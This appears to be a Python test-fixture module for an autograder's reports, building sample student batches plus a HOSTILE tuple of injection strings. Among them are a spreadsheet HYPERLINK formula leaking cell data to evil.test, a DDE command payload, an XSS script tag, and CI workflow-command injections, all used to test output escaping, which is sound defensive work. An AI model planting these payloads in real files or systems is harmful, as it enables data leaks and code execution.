"""Sample batches: a student of each kind, and hostile names and messages."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

from grader.gradebook import Batch, Entry, ExerciseScore, Lateness, Person
from grader.results import Result, Where
from tests.reports.builders import check, evidence, exercise, result

__all__ = ["HOSTILE", "batch", "entry", "graded", "mixed", "score", "submitted", "verdict", "wild"]

HOSTILE = (
    '=HYPERLINK("http://evil.test?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n-2+3|x",
    "x;=1+1",
    "＝１＋１",
    "'=1",
    "</testsuite><script>alert(1)</script>]]>&amp;",
    "nul\x00 bell\x07 esc\x1b[31m \x9b31m",
    "rtl \u202e txt \u2066",
    "lone \ud800 surrogate \ufffe",
    "a | b `c` [d](http://e.test) ![f](x) <img src=x onerror=1> **g** @h #1 $x$ https://i.test www.j.test",
    "::error::x",
    "%0A::warning::y,z:q",
    "##[add-mask]x",
    "two\nlines\r\n::notice::three",
    '"quoted", it\'s',
)
"""Names and messages that mean something to one of the formats."""


def verdict(**changes: Any) -> Result:
    """Two exercises: one passed, one failed with a visible and a hidden check; 5 of 8 points."""
    failed = [
        check(
            status="failed",
            score=0.0,
            weight=3.0,
            kind="value",
            message="largest error at [0]: expected 1, got 2.",
            hint="Average over the batch.",
            evidence=evidence(where=Where(file="losses.py", line=17, function="cross_entropy", code="x")),
        ),
        check(name="labels", title="Refuses labels that are no class", score=1.0),
        check(
            name="secret", title="Agrees on more data", status="failed", score=0.0, hidden=True, cases=9,
            cases_failed=9, message="9 of 9 cases fail.",
            evidence=evidence(call="secret_call()", expected="secret_expected", got="secret_got"),
        ),
    ]  # fmt: skip
    two = exercise(name="cross_entropy", status="failed", score=1.0, max_score=4.0, checks=failed)
    return result(**({"exercises": [exercise(checks=[check(score=4.0)]), two]} | changes))


def score(name: str, points: float = 4.0, of: float = 4.0, status: Any = "passed") -> ExerciseScore:
    return ExerciseScore(name=name, status=status, score=points, max_score=of)


def graded(student: str, points: float = 5.0, **changes: Any) -> Entry:
    """A student with a verdict, of 8 points."""
    fields: dict[str, Any] = {
        "person": Person(student=student),
        "state": "graded",
        "file": f"{student}/losses.py",
        "score": points,
        "max_score": 8.0,
        "exercises": [score("softmax"), score("cross_entropy", points - 4, status="failed")],
        "result": f"results/{student}.json",
        "wall_s": 0.5,
    }
    return Entry(**(fields | changes))


def entry(student: str, state: Any, message: str = "", **changes: Any) -> Entry:
    """A student without a verdict."""
    return Entry(**({"person": Person(student=student), "state": state, "message": message} | changes))


def submitted() -> datetime:
    return datetime(2026, 10, 2, 1, 30, tzinfo=UTC)


def mixed() -> list[Entry]:
    """One of everything, late and partly faulty ones too."""
    late = Lateness(late_s=90000, days=1, share=0.9, words="1 day late: 10 % are taken off.")
    return [
        graded("ada", person=Person(student="ada", name="Ada Lovelace", email="ada@x.test")),
        graded("bob", 8.0, late=late, submitted=submitted(), exercises=[score("softmax"), score("cross_entropy")]),
        graded(
            "cy", 4.0, max_score=4.0,
            exercises=[score("softmax"), score("cross_entropy", 0.0, 0.0, "fault")],
        ),
        entry("dan", "fault", "the box did not start."),
        entry("eve", "refused", "archive.zip is no archive."),
        entry("fay", "missing"),
    ]  # fmt: skip


def batch(entries: list[Entry] | None = None, **changes: Any) -> Batch:
    fields: dict[str, Any] = {
        "grader": "0.1.0",
        "assignment": "losses",
        "title": "Losses",
        "seed": 7,
        "box": "jail",
        "max_score": 8.0,
        "exercises": ["softmax", "cross_entropy"],
        "entries": mixed() if entries is None else entries,
    }
    return Batch(**(fields | changes))


def wild() -> tuple[Batch, dict[str, Result]]:
    """Every hostile text as name, file, message, title and output at once."""
    entries, results = [], {}
    for number, text in enumerate(HOSTILE):
        student = f"{text}{number}"
        entries.append(
            graded(
                student, person=Person(student=student, name=text, email=text, ids={"section": text}), file=text,
                result=f"results/{number}.json",
                late=Lateness(words=text),
            )
        )  # fmt: skip
        two = exercise(
            name=f"x{number}", title=text, status="failed", score=1.0,
            checks=[check(name=text, title=text, status="failed", message=text, hint=text, kind=text,
                          evidence=evidence(call=text, got=text, where=Where(file=text, line=3, function=text)))],
        )  # fmt: skip
        results[student] = verdict(exercises=[exercise(), two])
        entries.append(entry(f"{text}-{number}", "fault", text))
    return batch(entries, title=HOSTILE[11], exercises=list(HOSTILE[:2])), results
